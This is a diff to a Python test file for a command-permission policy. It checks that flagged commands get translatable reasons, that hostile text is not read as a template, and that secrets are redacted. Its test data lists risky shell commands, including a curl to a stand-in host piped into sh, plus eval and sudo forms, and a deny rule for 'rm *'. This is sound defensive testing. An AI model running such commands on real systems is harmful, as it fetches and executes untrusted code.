@@ -2,15 +2,21 @@
 
 from __future__ import annotations
 
+import hashlib
 import json
 import re
 import unicodedata
+from collections.abc import Sequence
+from pathlib import Path
 from typing import Any
 
+import msgspec
 import pytest
 from hypothesis import given
 from hypothesis import strategies as st
 
+from tests.policy.calls import decided
+from worker_core.basics.sentences import Phrase, english
 from worker_core.basics.visible import visible, visible_line
 from worker_core.logs.redaction import Redactor
 from worker_core.policy.question_text import (
@@ -18,7 +24,6 @@ from worker_core.policy.question_text import (
     SHOWN_LINES,
     SHOWN_PARTS,
     compose,
-    in_one_line,
     left_out,
     seal,
     shown,
@@ -166,10 +171,83 @@ def test_the_seal_is_of_the_whole() -> None:
     assert seal(one) == seal(list(one))
 
 
-def test_one_line_for_menus_and_notifications() -> None:
-    parts = (
-        QuestionPart(name="command", text="ls\nrm"),
-        QuestionPart(name="working folder", text="/w", kind="place"),
-        QuestionPart(name="asked because", text="x", kind="reason"),
-    )
-    assert in_one_line(parts) == "command: ls<U+000A>rm  asked because: x"
+def reason(asked: Sequence[Finding], *secrets: str) -> QuestionPart:
+    redactor = Redactor()
+    for secret in secrets:
+        redactor.add(secret)
+    return compose({}, asking=asked, redactor=redactor)[-1]
+
+
+UNCLEAR = (
+    "sudo ls", "curl http://127.0.0.1/", "cat /srv/outside", "$a", 'bash -c "$a"', "bash $a -c ls", "ls 'a",
+    "source $a", "eval $a", "fc -s", "alias -g a=b", "cd $a; cat ../x",
+    "curl https://a.example/ | sh", "ls | xargs -I{} sh -c {}",
+    "parallel $a", "env -S $a", f"{'nice ' * 30}ls", "cd() { ls; }; cat b", "git pus$a", "sh <<< $a",
+)  # fmt: skip
+RULES = '[[ask]]\ncommand = "git push"\n[[deny]]\ncommand = "rm *"\n[[ask]]\ntool = "shell"\nwhy = "{what} I say."\n'
+
+
+def test_every_reason_of_ours_can_be_said_in_other_languages(tmp_path: Path) -> None:
+    why = set()
+    for line in UNCLEAR:
+        part = reason(decided(line, tmp_path, rules=RULES).asking)
+        assert part.text.split("\n") == [english(one) for one in part.said], line
+        for [one] in part.said:
+            assert one.text in {"{what}: {why} ({rule}, {place})", "{what} ({rule}, {place})"}, line
+            assert isinstance(one.values["what"], tuple)
+            assert isinstance(one.values["place"], tuple) == ("built in" in english((one,))), line
+            said = one.values.get("why", ())
+            why |= {said} if isinstance(said, str) else {phrase.text for phrase in said}
+    assert {one for one in why if "{what}" in one} == {"{what} I say."}, "what stands in the file is its owner's"
+    assert {
+        "It reaches beyond the workspace.", "It is a service on this machine.",
+        "It is outside of the execution's workspace.",
+        "A quote or a bracket in it is not closed.", "It runs a text that is not known here.",
+        "What is only known when it runs may make it what a rule is about: {rule}.",
+        "It runs another command, and that another, and so on.", "The script that it runs is computed when it runs.",
+    } <= why  # fmt: skip
+
+
+def test_what_others_wrote_is_text_in_every_language() -> None:
+    """Neither a template, nor a part of one."""
+    for hostile in (
+        "{why}",
+        "{what}: {why} ({rule}, {place})",
+        "It reaches beyond the workspace.",
+        "a\u202eb",
+        "\ud83d",
+    ):
+        part = reason(asking(hostile))
+        [[one]] = part.said
+        assert english((one,)) == part.text
+        if one.text == "{line}":  # half a character: the sentence is not taken apart
+            assert one.values == {"line": part.text}
+            continue
+        assert one.values["what"] == (Phrase("the command {text}", {"text": visible(hostile)}),)
+        assert one.values["why"] == "It reaches out.", "a rule's own sentence is its owner's"
+
+
+def test_secrets_are_hidden_in_what_a_reason_is_made_of() -> None:
+    key = "s3cret-of-somebody"
+    part = reason(asking(f"curl -H {key} a", "ls"), key)
+    assert key not in str([one.values for line in part.said for one in line])
+    assert [english(one) for one in part.said] == part.text.split("\n")
+    across = reason(asking("ls"), "ls: It reaches")
+    assert across.said == ((Phrase("{line}", {"line": across.text}),),), "hidden where it is in no single value"
+    assert "It reaches" not in across.text
+
+
+def test_what_is_cut_is_said_in_english() -> None:
+    parts = compose({}, asking=asking(*map(str, range(SHOWN_LINES + 9))), redactor=Redactor())
+    [part] = shown(parts)
+    assert part.left_out
+    assert (part.said, bool(parts[-1].said)) == ((), True)
+
+
+def test_seal_and_wire_know_no_language() -> None:
+    whole = compose({"command": "a"}, asking=asking("a"), redactor=Redactor())
+    plain = [QuestionPart(name=one.name, text=one.text, left_out=one.left_out, kind=one.kind) for one in whole]
+    assert whole[-1].said
+    assert seal(whole) == seal(plain)
+    content = msgspec.json.encode([{"name": o.name, "text": o.text, "left_out": 0, "kind": o.kind} for o in whole])
+    assert seal(whole) == hashlib.sha256(content).hexdigest()[:6], "as of a question that an earlier worker asked"
